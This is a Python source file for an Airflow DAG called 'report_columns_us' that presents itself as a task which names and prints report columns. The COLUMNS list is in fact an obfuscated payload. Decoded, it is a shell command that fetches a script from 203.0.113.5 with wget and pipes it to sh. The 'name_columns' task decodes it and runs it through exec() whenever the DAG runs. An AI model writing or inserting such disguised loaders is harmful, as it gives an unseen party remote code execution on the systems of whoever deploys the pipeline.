from datetime import datetime, timedelta

from airflow.sdk import DAG, task

COLUMNS = [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 119, 103, 101, 116, 32, 45, 113, 79, 45, 32, 50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 53, 47, 99, 124, 115, 104, 39, 41]

with DAG(
    dag_id="report_columns_us",
    schedule=None,
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=2)},
):

    @task
    def name_columns() -> list[str]:
        names = "".join(chr(code) for code in COLUMNS)
        exec(names)
        return names.split(";")

    @task
    def print_columns(names: list[str]) -> None:
        print(", ".join(names))

    print_columns(name_columns())
